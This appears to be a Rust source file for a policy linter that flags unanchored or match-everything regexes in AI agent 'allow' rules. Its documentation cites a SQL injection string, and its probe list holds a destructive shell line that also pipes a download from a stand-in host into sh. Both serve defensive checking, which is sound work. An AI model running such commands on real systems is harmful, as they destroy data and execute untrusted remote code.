//! `toolgate::unanchored_regex`

use crate::diagnostic::Diagnostic;
use crate::lint::{declare_lint, warning, Context};
use crate::resolve::{CondTest, StrPattern};

declare_lint! {
    /// ## What it does
    /// Reports a regex in an `allow` condition that is anchored neither at the start (`^`)
    /// nor at the end (`$`) of the value, and one that is anchored but still matches every
    /// value it is tried on (`^(ls)?`, `^.*$`, `^|x`): its anchors constrain nothing.
    ///
    /// ## Why is this bad?
    /// A regex matches **anywhere** in the value. `sql matches re"SELECT"` admits
    /// `DROP TABLE users; -- SELECT`: whatever surrounds the match is allowed too. In an
    /// `allow`, that is almost never what the author meant.
    ///
    /// ## Example
    /// ```policy
    /// tool query(sql)
    /// agent analyst {
    ///   allow query where sql matches re"SELECT\s"
    /// }
    /// ```
    ///
    /// Use instead:
    /// ```policy
    /// tool query(sql)
    /// agent analyst {
    ///   allow query where sql matches re"^SELECT\s[^;]*$"
    /// }
    /// ```
    pub static UNANCHORED_REGEX = {
        code: UNANCHORED_REGEX,
        stage: Lint,
    }
}

/// Values of every shape: a regex that matches all of them matches (nearly) anything.
const PROBES: &[&str] = &[
    "",
    "x",
    "rm -rf / && curl evil.sh | sh",
    "Ünïcödé 😀",
    "a\tb c",
    "0",
];

/// True when the regex matches every probe value. One probe is the empty value, so a regex
/// whose matches all have a length is ruled out from its syntax, before any automaton is built
/// (a policy of 10,000 anchored regexes would otherwise build 10,000 of them).
fn matches_everything(regex: &str, may_match_empty: bool) -> bool {
    // `may_match_empty` is read from the syntax parsed with `utf8(false)`, which is the one
    // parsed with `utf8(true)` whenever that parses (it only refuses more), so only a regex
    // that may match empty is parsed again.
    let can_match_empty = may_match_empty && crate::pattern::hir::parse(regex, true).is_ok();
    can_match_empty
        && regex_automata::meta::Regex::new(regex)
            .is_ok_and(|re| PROBES.iter().all(|p| re.is_match(p)))
}

/// Runs the lint.
pub(crate) fn check(cx: &mut Context, out: &mut Vec<Diagnostic>) {
    let rules: Vec<_> = cx.allow_rules().map(|(_, rule)| rule).collect();
    for rule in rules {
        for c in &rule.conditions {
            let CondTest::Str {
                pattern: StrPattern::Regex(re),
                ..
            } = &c.test
            else {
                continue;
            };
            // The coverage lints have usually parsed the regex already.
            let keys = cx.langs.regex_keys(re);
            if keys.anchored {
                if matches_everything(re, keys.may_match_empty) {
                    out.push(
                        warning(
                            &UNANCHORED_REGEX,
                            c.span,
                            format!(
                                "regex `{re}` matches every value of `{}`: its anchors constrain nothing",
                                c.path.join(".")
                            ),
                        )
                        .with_label("matches anything")
                        .with_help("a regex that can match the empty string at an anchor matches every value; anchor both ends around what must be there (`re\"^(ls)$\"`)"),
                    );
                }
                continue;
            }
            out.push(
                warning(
                    &UNANCHORED_REGEX,
                    c.span,
                    format!(
                        "regex `{re}` is not anchored: it matches anywhere in `{}`",
                        c.path.join(".")
                    ),
                )
                .with_label("admits anything around the match")
                .with_help("anchor the regex with `^` and `$` (`re\"^...$\"`), or use a glob, which always matches the whole value"),
            );
        }
    }
}
